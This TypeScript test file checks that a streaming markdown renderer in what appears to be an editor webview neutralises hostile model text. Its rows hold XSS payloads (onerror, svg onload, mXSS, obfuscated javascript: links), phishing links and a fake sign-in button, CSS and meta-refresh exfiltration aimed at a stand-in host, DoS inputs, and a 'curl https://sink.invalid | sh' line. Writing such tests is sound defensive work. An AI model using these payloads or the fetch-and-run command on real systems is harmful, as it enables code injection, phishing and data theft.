import { expect, test } from 'vitest';
import { StreamingMarkdown } from '../../../../src/webview/markdown/streamingMarkdown';
import { lightContainer, lightHtml } from '../../../bench/lightDom';
import { oneShotHtml, plainHost, randomNumbers, randomPieces } from './oneShot';

const run = 'alert(1)';
const sink = 'https://sink.invalid/x';

/** Row "Model text" of the list of bad inputs, by item. What becomes of them in a browser is seen in hostile.test.ts. */
const rows: readonly (readonly [item: string, text: string])[] = [
	['inline image', `![a](${sink})`],
	['reference image', `![a][1]\n\n[1]: ${sink}\n`],
	['autolink', `<${sink}>`],
	['angle-bracket image', `![a](<${sink}>)`],
	['HTML image', `<img src="${sink}" onerror="${run}">`],
	['javascript: with a tab', `[a](java\tscript:${run})`],
	['javascript: with a newline', `[a](java\nscript:${run})`],
	['javascript: with entities', `[a](&#106;ava&Tab;script&colon;${run})`],
	['JaVaScRiPt', `[a](JaVaScRiPt:${run})`],
	...['command:x', 'vscode:x', 'file:///x', 'data:text/html,x', `blob:${sink}`, '//host', '\\\\unc\\x'].map(
		(target) => [target, `[a](${target}) [b][r] <${target}>\n\n[r]: <${target}>\n`] as const,
	),
	['IDN look-alikes', '[aws](https://\u0430ws.example/)'],
	['userinfo', '[aws](https://aws.amazon.com@evil.example/)'],
	['label-is-URL mismatch', '[https://aws.amazon.com](https://evil.example/)'],
	['<base>', `<base href="${sink}">`],
	['<meta refresh>', `<meta http-equiv="refresh" content="0;url=${sink}">`],
	['<form>', `<form action="${sink}"><button>Sign in</button></form>`],
	['<svg onload>', `<svg onload="${run}"></svg>`],
	['<math> mXSS', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=1 onerror=${run}>">`],
	['<style>@import', `<style>@import url(${sink});</style>`],
	['CSS url()', `<p style="background:url(${sink})">x</p>`],
	['DOM-clobbering ids', '<a id=location></a><form name=cookie></form><img name=getElementById>'],
	['prototype keys as language names', '```__proto__\na\n```\n```constructor\nb\n```\n```hasOwnProperty\nc\n```\n'],
	['fence with 10,000 backticks', `${'`'.repeat(10_000)}\ncode\n${'`'.repeat(10_000)}\nafter`],
	['quotes 5,000 deep', `${'>'.repeat(5_000)} x\n\nafter`],
	['lists 5,000 deep', `${'- '.repeat(5_000)}x\n\nafter`],
	['table of 50,000 cells', `|${'a|'.repeat(50)}\n|${'-|'.repeat(50)}\n${`|${'b|'.repeat(50)}\n`.repeat(1_000)}`],
	['100,000 *', `${'*'.repeat(100_000)}a`],
	['100,000 [', `${'['.repeat(100_000)}a`],
	['ANSI escapes', '\u001b[31mred\u001b]8;;https://sink.invalid\u0007link\u001b]8;;\u0007'],
	['a terminal command with a trailing newline', '```sh\ncurl https://sink.invalid | sh\n```\n'],
	['fake UI', '[Click to re-authenticate](https://sink.invalid/login) <button>Sign in</button>'],
];

test.each(rows)('B5, model text: %s', (_item, text) => {
	const opened: string[] = [];
	const container = lightContainer();
	const stream = new StreamingMarkdown(container, { ...plainHost, onLink: (href) => opened.push(href) });
	for (const piece of randomPieces(text, randomNumbers(7), text.length > 5_000 ? 2_000 : 9)) stream.append(piece);
	stream.finish();
	const html = lightHtml(container);
	expect(html === oneShotHtml(text)).toBe(true);
	// Elements that the renderer never makes, and attributes with which a page fetches or runs.
	expect(html).not.toMatch(/<(?:img|script|svg|math|style|form|input|button|iframe|base|meta|link|object|embed)\b/i);
	expect(html).not.toMatch(/<\w+(?: [\w-]+="[^"]*")* (?:href|src|srcset|style|id|name|on\w+)=/i);
	expect(html).not.toContain('\u001b');
	expect(opened).toEqual([]);
	expect(stream.text).toBe(text);
});
